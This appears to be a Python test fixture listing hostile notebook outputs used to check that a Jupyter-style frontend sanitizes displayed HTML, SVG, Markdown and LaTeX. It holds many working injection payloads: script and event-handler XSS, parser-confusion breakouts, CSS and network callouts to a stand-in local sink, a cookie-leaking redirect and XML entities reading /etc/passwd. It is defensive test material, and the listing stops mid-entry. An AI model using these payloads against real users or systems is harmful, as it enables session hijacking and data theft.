"""Hostile outputs: what code in a session may display to get at the user's machine.

Each is a few lines of Python that run in the session. In its text ``@ID`` stands for its name,
``@SINK`` for the address of a port that listens, ``@HOST`` for that without the scheme and
``@UDP`` for a port for datagrams. ``hit('@ID')`` stands for a script that tries everything
(see canary.py). ``fires`` is true of outputs that get through under ``trusted``, as they do
from a local kernel: without these the test could not fail.
"""

from __future__ import annotations

import html as html_module
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

__all__ = ["CORPUS", "Hostile"]

HIT = "hit('@ID')"
_ESCAPED_HIT = "hit(&#39;@ID&#39;)"


@dataclass(frozen=True)
class Hostile:
    """One output: ``code`` displays it. ``leaves``: it makes the whole page go away."""

    name: str
    code: str
    fires: bool = False
    leaves: bool = False

    def cell(self, *, port: int, udp_port: int) -> str:
        """The code, for the ports of this run."""
        return (
            self.code.replace("@ID", self.name)
            .replace("@SINK", f"http://127.0.0.1:{port}/{self.name}")
            .replace("@HOST", f"127.0.0.1:{port}")
            .replace("@UDP", str(udp_port))
        )


def _html(name: str, text: str, *, fires: bool = False, leaves: bool = False) -> Hostile:
    return _bundle(name, {"text/html": text, "text/plain": "harmless"}, fires=fires, leaves=leaves)


def _bundle(
    name: str,
    data: Mapping[str, Any],
    metadata: Mapping[str, Any] | None = None,
    *,
    fires: bool = False,
    leaves: bool = False,
) -> Hostile:
    code = f"display({dict(data)!r}, raw=True, metadata={dict(metadata or {})!r})"
    return Hostile(name, code, fires=fires, leaves=leaves)


def _markdown(name: str, text: str, *, fires: bool = False) -> Hostile:
    return Hostile(
        name, f"from IPython.display import Markdown\ndisplay(Markdown({text!r}))", fires=fires
    )


def _script(name: str, script: str, *, fires: bool = False, leaves: bool = False) -> Hostile:
    return _html(name, f"<p>text</p><script>{script}</script>", fires=fires, leaves=leaves)


def _frame(text: str) -> str:
    return f'<iframe srcdoc="{html_module.escape(text, quote=True)}"></iframe>'


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"'
_FETCHING_VEGA = {
    "$schema": "https://vega.github.io/schema/vega/v5.json",
    "width": 10,
    "height": 10,
    "data": [
        {"name": "a", "url": "@SINK/data.json"},
        {"name": "b", "url": "/api/contents?canary=@ID"},
    ],
    "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "@SINK/mark"}}}}],
}
_RTC = (
    "p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:@UDP'},{urls:'turn:@HOST"
    "?transport=tcp',username:'@ID',credential:'c'}]});p.createDataChannel('x');"
    "p.createOffer().then(o=>p.setLocalDescription(o))"
)

SCRIPTS = [
    _script("script", HIT, fires=True),
    _html("script-uppercase", f"<SCRIPT TYPE=text/javascript>{HIT}</SCRIPT>", fires=True),
    _html("script-src", "<script src='@SINK/x.js'></script>", fires=True),
    _html("script-module", f"<script type=module>{HIT}</script>", fires=True),
    _html("script-data-url", f'<script src="data:text/javascript,{HIT}"></script>', fires=True),
    _html(
        "script-in-table", f"<table><tr><td><script>{HIT}</script></td></tr></table>", fires=True
    ),
    _html("script-after-junk", f"<<<a '\"><script>{HIT}</script>", fires=True),
    _html("script-nul", f"<scr\x00ipt>{HIT}</scr\x00ipt><img src=x\x00 onerror={HIT}>"),
    _html("script-in-list", [f"<script>{HIT}", "</script>"]),  # type: ignore[arg-type]
    Hostile(
        "html-magic",
        f'get_ipython().run_cell_magic(\'html\', \'\', """<script>{HIT}</script>""")',
        fires=True,
    ),
    Hostile(
        "repr-html",
        f'class C:\n    def _repr_html_(self): return "<script>{HIT}</script>"\nC()',
        fires=True,
    ),
    Hostile(
        "repr-mimebundle",
        "class C:\n    def _repr_mimebundle_(self, **k):\n"
        f'        return {{"text/html": "<img src=x onerror={HIT}>", "text/plain": "x"}}, '
        '{"text/html": {"isolated": True}}\nC()',
        fires=True,
    ),
]

HANDLERS = [
    _html(f"on-{event}-{tag}", f"<{tag} {extra} on{event}={HIT}>x</{tag}>", fires=fires)
    for tag, event, extra, fires in (
        ("img", "error", "src=data:,", True),
        ("img", "load", f"src='data:image/gif;base64,{'R0lGODlhAQABAAAAACwAAAAAAQABAAA='}'", True),
        ("svg", "load", "", False),
        ("body", "load", "", False),
        ("video", "error", "src=data:, autoplay", True),
        ("audio", "error", "src=data:,", True),
        ("input", "focus", "autofocus", False),
        ("details", "toggle", "open", True),
        ("style", "load", "", True),
        ("iframe", "load", "", True),
        ("object", "error", "data=x:x", False),
        ("marquee", "start", "", False),
        ("button", "click", "", True),
        ("div", "pointerover", "style='width:99px;height:99px;background:red'", False),
        ("select", "focus", "autofocus", True),
        ("dialog", "close", "open", False),
        ("form", "submit", "", False),
    )
]

HANDLERS += [
    _html(
        "on-animationstart",
        "<style>@keyframes q{from{opacity:0}}</style>"
        f"<b style='animation:q 1s' onanimationstart={HIT}>x</b>",
        fires=True,
    ),
    _html(
        "on-transition",
        f"<b style='transition:color 1s' tabindex=1 onfocus={HIT}>x</b>",
        fires=True,
    ),
    _html("attribute-without-space", f"<img/src=data:,/onerror={HIT}>"),
    _html("attribute-newline", f"<img\nsrc=data:,\nonerror\n=\n{HIT}>", fires=True),
    _html("attribute-entity", "<img src=data:, onerror=&#x68;it(&apos;@ID&apos;)>", fires=True),
    _html("attribute-breakout", f"<p title='\"><img src=data:, onerror={HIT}>'>x</p>"),
    _html("table-background", "<table background='@SINK/bg'><td background='@SINK/td'>x</table>"),
]

MIME_TYPES = [
    _bundle("javascript-mime", {"application/javascript": HIT, "text/plain": "x"}, fires=True),
    _bundle("text-javascript-mime", {"text/javascript": HIT, "text/plain": "x"}),
    Hostile(
        "javascript-display",
        f'from IPython.display import Javascript\ndisplay(Javascript("{HIT}"))',
        fires=True,
    ),
    _bundle("mime-odd-case", {"Text/HTML": f"<script>{HIT}</script>", "text/plain": "x"}),
    _bundle("mime-parameter", {"text/html; charset=utf-8": f"<script>{HIT}</script>"}),
    _bundle("mime-space", {" text/html": f"<script>{HIT}</script>", "text/html ": "x"}),
    _bundle("javascript-odd-case", {"application/JavaScript": HIT, "text/plain": "x"}),
    _bundle("ecmascript", {"application/ecmascript": HIT, "application/x-javascript": HIT}),
    _bundle("xhtml", {"application/xhtml+xml": f"<script>{HIT}</script>", "text/xml": "<a/>"}),
    _bundle("vega", {"application/vnd.vega.v5+json": _FETCHING_VEGA}, fires=True),
    _bundle(
        "vega-lite",
        {
            "application/vnd.vegalite.v5+json": {
                "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
                "data": {"url": "@SINK/data.json"},
                "mark": "bar",
                "encoding": {"x": {"field": "a"}},
            }
        },
        fires=True,
    ),
    _bundle(
        "plotly-mime",
        {
            "application/vnd.plotly.v1+json": {
                "data": [],
                "layout": {"images": [{"source": "@SINK/image"}], "title": {"text": "<a href=x>"}},
            }
        },
    ),
    _bundle(
        "widget-view",
        {"application/vnd.jupyter.widget-view+json": {"model_id": "@ID", "version_major": 2}},
    ),
    _bundle("geojson", {"application/geo+json": {"type": "Point", "coordinates": [0, 0]}}),
    _bundle("html-is-no-text", {"text/html": {"a": f"<script>{HIT}</script>"}, "text/plain": "x"}),
    _bundle("plain-is-no-text", {"text/plain": {"a": [f"<script>{HIT}</script>"]}}),
    _bundle("json-with-html", {"application/json": {f"<img src=x onerror={HIT}>": "<script>"}}),
    _bundle("image-is-html", {"image/png": f'x" onerror="{HIT}', "text/plain": "x"}),
    _bundle(
        "image-metadata",
        {"image/png": "iVBORw0KGgo=", "text/plain": "x"},
        {"image/png": {"width": f'1" onerror="{HIT}', "height": "<script>"}},
    ),
    _bundle("jpeg-is-svg", {"image/jpeg": f"{_SVG}><script>{HIT}</script></svg>"}),
    _bundle("pdf", {"application/pdf": "JVBERi0xLjQKJcfsj6IK", "text/plain": "x"}),
    _bundle(
        "isolated-metadata",
        {"text/html": f"<script>{HIT}</script>"},
        {"isolated": True, "text/html": {"isolated": True}},
        fires=True,
    ),
    _bundle(
        "isolated-svg",
        {"image/svg+xml": f"{_SVG}><script>{HIT}</script></svg>"},
        {"isolated": True, "image/svg+xml": {"isolated": True}},
    ),
    _bundle(
        "metadata-trusted",
        {"text/html": f"<script>{HIT}</script>"},
        {"trusted": True, "tags": ["x"], "collapsed": False},
        fires=True,
    ),
    Hostile(
        "page-payload",
        "get_ipython().payload_manager.write_payload({'source': 'page', 'start': 0, 'data':"
        f' {{"text/html": "<img src=data:, onerror={HIT}>", "text/plain": "x"}}}})',
        fires=True,
    ),
    Hostile(
        "page-payload-javascript",
        "get_ipython().payload_manager.write_payload({'source': 'page', 'data':"
        f' {{"application/javascript": "{HIT}"}}}})',
        fires=True,
    ),
    Hostile(
        "unknown-payload",
        "get_ipython().payload_manager.write_payload({'source': 'edit_magic', 'filename':"
        " '/etc/passwd', 'line_number': 1})",
    ),
    Hostile(
        "next-input-replaced",
        "get_ipython().payload_manager.write_payload({'source': 'set_next_input', 'text':"
        " 'import os # canary-@ID', 'replace': True})",
    ),
    Hostile(
        "ask-exit",
        "get_ipython().payload_manager.write_payload({'source': 'ask_exit', 'keepkernel': False})",
    ),
]

URLS = [
    _html("relative-image", "<img src='canary-@ID.png'>", fires=True),
    _html("relative-srcset", "<img srcset='/files/canary-@ID.png 1x'>", fires=True),
    _html("api-image", "<img src='/api/contents?canary=@ID'>", fires=True),
    _html("remote-image", "<img src='@SINK/image'>", fires=True),
    _html("protocol-relative", "<img src='//@HOST/@ID/image'>", fires=True),
    _html("backslash-url", "<img src='\\\\@HOST/@ID/image'>"),
    _html("picture-source", "<picture><source srcset='@SINK/source'><img></picture>", fires=True),
    _html("javascript-link", f'<a href="javascript:{HIT}">click</a>'),
    _html("javascript-link-tab", f'<a href="java\tscript\n:{HIT}">click</a>'),
    _html("javascript-entity", '<a href="&#106;avascript&colon;hit(`@ID`)">click</a>'),
    _html("javascript-xlink", f'{_SVG}><a xlink:href="javascript:{HIT}"><text>x</text></a></svg>'),
    _html("javascript-area", f'<map name=m><area href="javascript:{HIT}" shape=default></map>'),
    _html("javascript-frame", f'<iframe src="javascript:{HIT}"></iframe>', fires=True),
    _html("data-link", f'<a href="data:text/html,<script>{HIT}</script>">click</a>'),
    _html("data-frame", "<iframe src=\"data:text/html,<img src='@SINK/x'>\"></iframe>", fires=True),
    _html("link-top", "<a href='@SINK/top' target=_top>click</a>", leaves=True),
    _html("link-blank", "<a href='@SINK/blank' target=_blank rel=opener>click</a>"),
    _html("link-named", "<a href='@SINK/named' target=main>click</a>"),
    _html("link-download", "<a href='@SINK/file' download=x.sh>click</a>"),
    _html("link-ping", "<a href='#x' ping='@SINK/ping'>click</a>", fires=True),
    _html("markdown-link", "<a href='@SINK/link'>click</a>", leaves=True),
    _html("form-action", "<form action='@SINK/form' method=post><button>Go</button></form>"),
    _html("form-api", "<form action='/api/contents?canary=@ID' method=post><button>Go</form>"),
    _html(
        "form-javascript",
        f'<form id=f><button form=f formaction="javascript:{HIT}">Go</button></form>',
        fires=True,
    ),
    _html("form-image", "<form action='@SINK/form'><input type=image src='@SINK/input'></form>"),
    _html("meta-refresh", "<meta http-equiv=refresh content='0;url=@SINK/meta'>", leaves=True),
    _html("meta-refresh-javascript", f'<meta http-equiv=refresh content="0;url=javascript:{HIT}">'),
    _html("meta-policy", "<meta http-equiv=Content-Security-Policy content='script-src *'>"),
    _html("base", "<base href='@SINK/'><img src=image><a href=x>click</a>", leaves=True),
    _html("base-target", "<base target=_top href='@SINK/'>", leaves=True),
    _html("object", "<object data='@SINK/object'></object>", fires=True),
    _html("object-svg", f'<object data="data:image/svg+xml,{_SVG}><script>{HIT}</script></svg>">'),
    _html("embed", "<embed src='@SINK/embed'>", fires=True),
    _html("applet", "<applet code=x archive='@SINK/x.jar'></applet><param name=x value='@SINK'>"),
    _html("frame", "<iframe src='@SINK/frame'></iframe>", fires=True),
    _html("frameset", "<frameset><frame src='@SINK/frame'></frameset>"),
    _html("frame-api", "<iframe src='/api/contents?canary=@ID'></iframe>", fires=True),
    _html("frame-lab", "<iframe src='/lab?canary=@ID'></iframe>"),
    _html("video-poster", "<video poster='@SINK/p' src='@SINK/v'><track src='@SINK/t'></video>"),
    _html("stylesheet", "<link rel=stylesheet href='@SINK/x.css'>", fires=True),
    _html(
        "preloads",
        "".join(
            f"<link rel={rel} as=script href='@SINK/{rel}'>"
            for rel in ("preload", "prefetch", "modulepreload", "prerender", "icon", "manifest")
        ),
        fires=True,
    ),
    _html("preconnect", "<link rel=preconnect href='@SINK'><link rel=dns-prefetch href='@SINK'>"),
    _html(
        "speculation",
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["@SINK/rules"]}],'
        '"prerender":[{"source":"list","urls":["@SINK/rules"]}]}</script>',
    ),
]

STYLES = [
    _html("style-mark", "<style>:root{--canary-@ID:1}</style>x", fires=True),
    _html("style-mark-scoped", "<style scoped>:root{--canary-@ID:1}</style>x", fires=True),
    _html("style-import", "<style>@import '@SINK/x.css';</style>x", fires=True),
    _html("style-background", "<b style='background:url(@SINK/bg)'>x</b>", fires=True),
    _html("style-escaped", "<b style='background:u\\72l(@SINK/bg)'>x</b>", fires=True),
    _html("style-image-set", "<b style=\"background:image-set('@SINK/bg' 1x)\">x</b>", fires=True),
    _html("style-cursor", "<b style='cursor:url(@SINK/c),auto'>x</b>"),
    _html(
        "style-selector",
        "<style>input[value^='']{background:url(@SINK/input)}"
        " body{background-image:url(@SINK/body)}</style><input value=secret>",
    ),
    _html(
        "style-font",
        "<style>@font-face{font-family:q;src:url(@SINK/font)}b{font-family:q}</style><b>x</b>",
        fires=True,
    ),
    _html("style-variable", "<b style='--x:url(@SINK/v);background:var(--x)'>x</b>", fires=True),
    _html(
        "overlay",
        "<div style='position:fixed;inset:0;z-index:99999;background:white'>Log in again</div>",
    ),
    _html(
        "overlay-important",
        "<table style='position:fixed!important;top:0;left:0;width:100vw;height:100vh'>"
        "<tr><td>x</td></tr></table>",
    ),
    _html("overlay-transform", "<p style='transform:scale(900);z-index:9999'>x</p>"),
    _html(
        "overlay-margin",
        "<div style='margin:-3000px;padding:3000px;position:relative;z-index:99999'>x</div>",
    ),
    _html(
        "overlay-popover",
        "<div popover=manual id=q style='inset:0'>x</div><button popovertarget=q>x</button>",
    ),
    _html("overlay-dialog", "<dialog open style='position:fixed;inset:0;z-index:9'>x</dialog>"),
    _html(
        "hide-lab",
        "<style>#jp-top-panel,body{display:none!important}:root{--canary-@ID:1}</style>",
    ),
    *(
        _html(f"sheet-{name}", f"<style>{sheet}</style><table class=q><tr><td id=q>x</table>")
        for name, sheet in (
            ("load", "#q{background:url(@SINK/bg)}"),
            ("load-escaped", "#q{background:u\\72l(@SINK/bg)}"),
            ("load-comment", "#q{background:u/**/rl(@SINK/bg)}"),
            ("load-hover", ".q:hover #q{background:url(@SINK/bg)}"),
            ("load-list", "#q{display:list-item;list-style:url(@SINK/bg)}"),
            ("load-var", ".q{--x:url(@SINK/bg)}#q{background:var(--x)}"),
            ("import-later", "#q{color:red}@import '@SINK/x.css';"),
            ("import-in-media", "@media print{}@media all{@import '@SINK/x.css'}#q{color:red}"),
            ("font-face", "@font-face{font-family:q;src:url(@SINK/f)}#q{font-family:q}"),
            ("content", "#q::before{content:url(@SINK/c)}"),
            ("read", "input[value^='']~*,#q{background:url(@SINK/v)}"),
            ("unclosed-string", "#q{font-family:'a}:root{--canary-@ID:1}b{x:'}"),
            ("unclosed-comment", "#q{color:red}/*</style><style>:root{--canary-@ID:1}"),
            ("unclosed-rule", "#q{color:red;}:root{--canary-@ID:1"),
            ("nested", "#q{color:red;:root{--canary-@ID:1}}"),
            ("beyond", "#q,body,.jp-Cell,:root,:has(#q){display:none;--canary-@ID:1}"),
            ("beyond-sibling", "#q~*,.q~*,.q+*,:not(#q){display:none;--canary-@ID:1}"),
            ("outside", ".output_html{position:fixed;inset:0;--canary-@ID:1}"),
            ("cover", ".q{position:fixed;inset:0;z-index:9999}"),
            ("cover-important", ".q{position:fixed!important;top:0;left:0}"),
            ("cover-transform", "#q{transform:scale(900)}"),
            ("breakout-attribute", f"#q{{font-family:'\"><script>{HIT}<&#47;script>'}}"),
            ("breakout-quote", f"#q{{font-family:a&quot; onclick={HIT} b}}"),
            ("formula", "#q{color:red;font-family:'$\\\\href{javascript:1}{x}$'}"),
        )
    ),
    _html("style-breakout", f"<b style='x:&quot;}}</style><script>{HIT}</script>'>x</b>"),
]

SVGS = [
    _html("svg-script", f"{_SVG}><script>{HIT}</script></svg>", fires=True),
    _html("svg-script-href", f"{_SVG}><script href='@SINK/x.js'/></svg>"),
    Hostile(
        "svg-display",
        "from IPython.display import SVG\n"
        f"display(SVG('''{_SVG} onload=\"{HIT}\"><script>{HIT}</script></svg>'''))",
    ),
    _bundle("svg-mime", {"image/svg+xml": f'{_SVG} onload="{HIT}"><script>{HIT}</script></svg>'}),
    _bundle(
        "svg-fetches",
        {
            "image/svg+xml": f"{_SVG} xmlns:xlink='http://www.w3.org/1999/xlink'>"
            "<image xlink:href='@SINK/image'/><use href='@SINK/use#x'/>"
            "<style>@import '@SINK/x.css';</style></svg>"
        },
    ),
    _bundle(
        "svg-entity",
        {
            "image/svg+xml": "<!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///etc/passwd'><!ENTITY f"
            f" SYSTEM '@SINK/entity'>]>{_SVG}><text>&e;&f;</text></svg>"
        },
    ),
    _bundle("svg-no-svg", {"image/svg+xml": f"<html><body><script>{HIT}</script></body></html>"}),
    _html(
        "svg-animate",
        f'{_SVG}><a><animate attributeName=href values="javascript:{HIT}"/>'
        "<text y=10>x</text></a></svg>",
    ),
    _html(
        "svg-set",
        f'{_SVG}><a><set attributeName=href to="javascript:{HIT}"/><text y=10>x</text></a></svg>',
    ),
    _html(
        "svg-onbegin", f"{_SVG}><animate onbegin={HIT} attributeName=x dur=1s /></svg>", fires=True
    ),
    _html(
        "svg-use",
        f"{_SVG}><use href=\"data:image/svg+xml,{_SVG} id='x'><script>{HIT}</script>"
        '</svg>#x"/></svg>',
    ),
    _html(
        "svg-foreign-object",
        f"{_SVG}><foreignObject><img src=data:, onerror={HIT}></foreignObject></svg>",
        fires=True,
    ),
    _html(
        "svg-image", f'<img src="data:image/svg+xml,{_SVG}><script>{_ESCAPED_HIT}</script></svg>">'
    ),
    _html(
        "svg-feimage",
        f"{_SVG}><filter id=f><feImage href='@SINK/fe'/></filter>"
        "<rect width=9 height=9 filter='url(#f)'/></svg>",
        fires=True,
    ),
    _html("svg-style", f"{_SVG}><style>:root{{--canary-@ID:1}}</style></svg>", fires=True),
]

CONFUSIONS = [
    _html(
        "math-mglyph",
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=data:, onerror={HIT}&gt;">',
    ),
    _html(
        "math-annotation",
        "<math><annotation-xml encoding=text/html>"
        f"<img src=data:, onerror={HIT}></annotation-xml></math>",
        fires=True,
    ),
    _html("math-href", f'<math href="javascript:{HIT}"><mtext>click</mtext></math>'),
    _html("math-style", f"<math><style><img src=data:, onerror={HIT}></style></math>", fires=True),
    _html(
        "svg-style-confusion",
        f'<svg></p><style><a id="</style><img src=data:, onerror={HIT}>">',
        fires=True,
    ),
    _html(
        "noscript-confusion",
        f'<noscript><p title="</noscript><img src=data:, onerror={HIT}>">',
        fires=True,
    ),
    _html("comment-confusion", f"<!--><img src=data:, onerror={HIT}>-->", fires=True),
    _html("comment-bang", f"<!-- --!><img src=data:, onerror={HIT}> -->", fires=True),
    _html("cdata-confusion", f"<svg><![CDATA[><img src=data:, onerror={HIT}>]]>", fires=False),
    _html("processing-instruction", f"<?x ><img src=data:, onerror={HIT}>?>", fires=True),
    _html(
        "textarea-confusion",
        f"<textarea><img title='</textarea><img src=data:, onerror={HIT}>'>",
        fires=True,
    ),
    _html(
        "title-confusion", f"<title><a title='</title><img src=data:, onerror={HIT}>'>", fires=True
    ),
    _html(
        "select-confusion", f"<select><template><img src=data:, onerror={HIT}></template></select>"
    ),
    _html(
        "template-shadow",
        f"<div><template shadowrootmode=open><img src=data:, onerror={HIT}></template></div>",
    ),
    _html(
        "nested-forms",
        "<form id=a><div></form><form id=b><math><mtext></form><form><mglyph>"
        f"<style></math><img src=data:, onerror={HIT}>",
    ),
    _html(
        "plaintext",
        f"<xmp><p title='</xmp><img src=data:, onerror={HIT}>'></p><plaintext>",
        fires=True,
    ),
    _html("unclosed-attribute", f'<p title="x\n<img src=data:, onerror={HIT}>\n'),
    _html(
        "custom-element", f"<x-y onclick={HIT} is=z tabindex=0 onfocus={HIT}>x</x-y>", fires=True
    ),
    _html("utf-7", "+ADw-script+AD4-hit('@ID')+ADw-/script+AD4-"),
    _html("surrogates", f"<b title='\ud83d'>\udc00</b><img src=data:, onerror={HIT}>"),
    _html(
        "clobber-id",
        "<img id=clobber-@ID name=clobber-@ID><form id=jupyterlab><input name=x>",
    ),
    _html(
        "clobber-body",
        "<img name=body><img name=querySelector><img name=getElementById>"
        "<form name=documentElement><input name=style id=clobber-@ID></form>",
    ),
    _html(
        "clobber-config",
        "<script id=jupyter-config-data type=application/json>"
        '{"baseUrl":"@SINK/"}</script><a id=clobber-@ID>x</a>',
    ),
    _html("attribute-frame", "\"></iframe><script>hit('@ID')</script>", fires=True),
    _html(
        "frame-breakout",
        "</iframe></div></body></html><img src=data:, onerror=hit('@ID')>",
        fires=True,
    ),
    _html(
        "frame-breakout-entities",
        "&quot;&gt;&lt;/iframe&gt;&lt;img src=data:, onerror=hit(&#39;@ID&#39;)&gt;",
    ),
    _html(
        "frame-breakout-twice",
        "&amp;quot;&amp;gt;&amp;lt;script&amp;gt;hit(`@ID`)"
        '&amp;lt;/script&amp;gt;" onload="hit(\'@ID\')" x="',
    ),
]

COMMANDS = [
    _html(
        "command-button",
        "<button data-commandlinker-command='docmanager:open'"
        ' data-commandlinker-args=\'{"path":"canary-@ID"}\'>click</button>',
        fires=True,
    ),
    _html(
        "command-link",
        "<a href='#' data-commandlinker-command='docmanager:open'"
        ' data-commandlinker-args=\'{"path":"canary-@ID"}\'>click</a>',
        fires=True,
    ),
    _html(
        "command-table",
        "<table data-commandlinker-command='docmanager:open'"
        ' data-commandlinker-args=\'{"path":"canary-@ID"}\' tabindex=0><tr><td>x</td></tr>'
        "</table>",
        fires=True,
    ),
    _html(
        "command-case",
        "<b DATA-CommandLinker-Command='docmanager:open' tabindex=0"
        ' Data-CommandLinker-Args=\'{"path":"canary-@ID"}\'>click</b>',
        fires=True,
    ),
    _html(
        "lab-class",
        "<div class='jp-Dialog jp-mod-styled lm-Menu' tabindex=0 contenteditable"
        " role=dialog accesskey=s draggable=true>x</div>",
    ),
    _markdown(
        "command-markdown",
        "<button data-commandlinker-command='docmanager:open'"
        ' data-commandlinker-args=\'{"path":"canary-@ID"}\'>click</button>',
        fires=True,
    ),
]

MARKDOWN = [
    _markdown("markdown-script", f"# Hello\n\n<script>{HIT}</script>", fires=True),
    _markdown("markdown-onerror", f"text <img src=data:, onerror={HIT}> text"),
    _markdown("markdown-javascript", f"[click](javascript:{HIT})"),
    _markdown("markdown-data", f"[click](data:text/html,<script>{HIT}</script>)"),
    _markdown("markdown-image", "![x](@SINK/image.png) ![y](canary-@ID.png)", fires=True),
    _markdown("markdown-reference", "![x][y]\n\n[y]: @SINK/image.png", fires=True),
    _markdown("markdown-autolink", f"<javascript:{HIT}> <@SINK/link>"),
    _markdown("markdown-fence", f'```"><img src=data:, onerror={HIT}>\nx\n```\n'),
    _markdown("markdown-title", f'![a](x:x "\'><img src=data:, onerror={HIT}>")'),
    _markdown("markdown-alt", f'!["><img src=data:, onerror={HIT}>](data:image/png;base64,x)'),
    _markdown(
        "markdown-mermaid",
        f"```mermaid\ngraph TD;A[<img src=data:, onerror={HIT}>]-->B;\n"
        f'click A "javascript:{HIT}"\n```',
    ),
    _markdown(
        "markdown-math", f"$$\\href{{javascript:{HIT}}}{{x}}$$ `$<img src=x onerror={HIT}>$`"
    ),
    _markdown("markdown-deep", "> " * 3000 + f"<img src=data:, onerror={HIT}>"),
    _markdown("markdown-brackets", "[" * 20000 + "x" + "](" * 5000),
]

LATEX = [
    _bundle(f"latex-{name}", {"text/latex": text, "text/plain": "x"}, fires=fires)
    for name, text, fires in (
        ("href", f"$\\href{{javascript:{HIT}}}{{click}}$", False),
        ("href-remote", "$\\href{@SINK/link}{click}$", False),
        ("style", "$\\style{position:fixed;inset:0;background:url(@SINK/bg)}{x}$", False),
        ("class", "$\\class{jp-Dialog}{\\cssId{clobber-@ID}{x}}$", False),
        ("image", "$\\includegraphics{@SINK/image}$", False),
        (
            "html",
            f"$x$ <img src=data:, onerror={HIT}> $\\text{{<img src=data:, onerror={HIT}>}}$",
            False,
        ),
        ("unicode", "$\\unicode[q;background:url(@SINK/bg)]{65}$", False),
        ("require", "$\\require{html}\\require{action}\\texttip{x}{<script>}$", False),
        ("data", f"$\\data{{onclick={HIT}}}{{x}}$", False),
        (
            "macros",
            "$"
            + "".join(
                f"\\def\\{c}{{\\{d}\\{d}\\{d}}}"
                for c, d in zip("abcdefgh", "bcdefghi", strict=True)
            )
            + "\\def\\i{x}\\a$",
            False,
        ),
    )
]

FRAMES = [
    _html("frame-srcdoc", _frame(f"<script>{HIT}</script>"), fires=True),
    _html("frame-nested", _frame(_frame(_frame(f"<script>{HIT}</script>"))), fires=True),
    _html(
        "frame-sandbox-off",
        "<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation"
        f' allow-popups\' srcdoc="<script>{HIT};top.{HIT}</script>"></iframe>',
        fires=True,
    ),
    _script(
        "parent-document", f"parent.document.body.innerHTML='x';{HIT}", fires=False, leaves=True
    ),
    _script(
        "parent-call",
        f"for(w of [parent,top,opener,parent.parent])try{{w.{HIT}}}catch(e){{}}",
        fires=True,
    ),
    _script(
        "parent-eval",
        f"parent.postMessage({{type:'eval',code:\"{HIT}\"}},'*');top.postMessage(\"{HIT}\",'*')",
    ),
    _script("top-location", "top.location='@SINK/top'", leaves=True),
    _script("top-javascript", f'top.location="javascript:{HIT}"', leaves=True),
    _script("parent-location", "parent.location='@SINK/parent'", leaves=True),
    _script(
        "own-location", "location='@SINK/own?'+encodeURIComponent(document.cookie)", leaves=True
    ),
    _script(
        "own-location-click",
        "a=document.createElement('a');a.href='@SINK/own';document.body?.append(a);a.click()",
        leaves=True,
    ),
    _script(
        "own-location-refresh",
        "m=document.createElement('meta');m.httpEquiv='refresh';"
        "m.content='0;url=@SINK/refresh';document.head.append(m)",
        leaves=True,
    ),
    _script("own-location-data", "location='data:text/html,<img src=@SINK/data>'", leaves=True),
    _script(
        "own-location-blob",
        "location=URL.createObjectURL(new Blob(['<img src=@SINK/blob>'],{type:'text/html'}))",
        leaves=True,
    ),
    _script(
        "inner-location",
        "f=document.createElement('iframe');f.src='@SINK/inner';document.documentElement.append(f)",
        fires=True,
    ),
    _html("inner-location-srcdoc", _frame("<script>location='@SINK/inner'</script>"), fires=True),
    _script("window-open", "window.open('@SINK/open');window.open('about:blank')?.document"),
    _script(
        "rewritten-document",
        "document.open();document.write('<img src=@SINK/w>"
        f"<script>{HIT.replace(chr(39), chr(96))}<\\/script>');document.close()",
        leaves=True,
    ),
    _script(
        "policy-removed",
        "document.querySelectorAll('meta').forEach(m=>m.remove());new Image().src='@SINK/image'",
        fires=True,
    ),
    _script("fetch", "fetch('@SINK/fetch',{method:'POST',mode:'no-cors',body:'x'})", fires=True),
    _script(
        "fetch-api",
        "fetch('/api/contents?canary=@ID',{credentials:'include'});"
        "fetch(top.location.origin+'/api/contents?canary=@ID')",
        fires=True,
    ),
    _script("websocket", "new WebSocket('ws://@HOST/@ID/socket')", fires=True),
    _script("event-source", "new EventSource('@SINK/events')", fires=True),
    _script("beacon", "navigator.sendBeacon('@SINK/beacon','x')", fires=True),
    _script("webrtc", _RTC),
    _html("webrtc-inner-frame", _frame(f"<script>{_RTC}</script>")),
    _html("webrtc-comment", f"<!-- <script> -->{_frame(f'<script>{_RTC}</script>')}"),
    _html("webrtc-no-comment", f"<!--> <script> -->{_frame(f'<script>{_RTC}</script>')}</script>"),
    _html("webrtc-attribute", f"<b\xa0x='<script>'>{_frame(f'<script>{_RTC}</script>')}</script>"),
    _html(
        "webrtc-foreign",
        "<svg><desc><div></svg></div></desc><script><desc>"
        + _frame(f"<script>{_RTC}</script>")
        + "</desc></script></svg>",
    ),
    _html(
        "webrtc-select",
        "<select><title><!-- </title><script>-->" + _frame(f"<script>{_RTC}</script>"),
    ),
    _html(
        "webrtc-escaped-script",
        f"<script><!--<script></script>{_frame(f'<script>{_RTC}</script>')}--></script>"
        f"{_frame(f'<script>{_RTC}</script>')}",
    ),
    _script(
        "webrtc-xml-frame",
        'd=new DOMParser().parseFromString(\'<x:iframe xmlns:x="http://www.w3.org/1999/xhtml"'
        f' srcdoc="{html_module.escape("<script>" + _RTC + "</script>").replace("&", "&amp;")}"/>\''
        ".replace(/&amp;/g,'&'),'application/xhtml+xml');document.body.append(d.documentElement)",
    ),
    _script(
        "webrtc-made-frame",
        "f=document.createElement('iframe');f.srcdoc='<script>"
        + _RTC.replace("'", "\\'")
        + "<\\/script>';document.documentElement.append(f)",
    ),
    _script(
        "webrtc-written-frame",
        "document.write('<ifr');document.write('ame srcdoc=\""
        "<script>" + _RTC.replace("'", "\\'") + "<\\/script>\"></iframe>')",
        leaves=True,
    ),
    _script("webtransport", "new WebTransport('https://@HOST/@ID/x')"),
    _script(
        "worker",
        "new Worker(URL.createObjectURL(new Blob([\"fetch('@SINK/w',{mode:'no-cors'})\"])))",
        fires=True,
    ),
    _script(
        "service-worker",
        "navigator.serviceWorker.register('/files/canary-@ID.js');"
        "navigator.serviceWorker.register('/api/contents?canary=@ID')",
        fires=True,
    ),
    _script("import", "import('@SINK/x.js')", fires=True),
    _script(
        "storage",
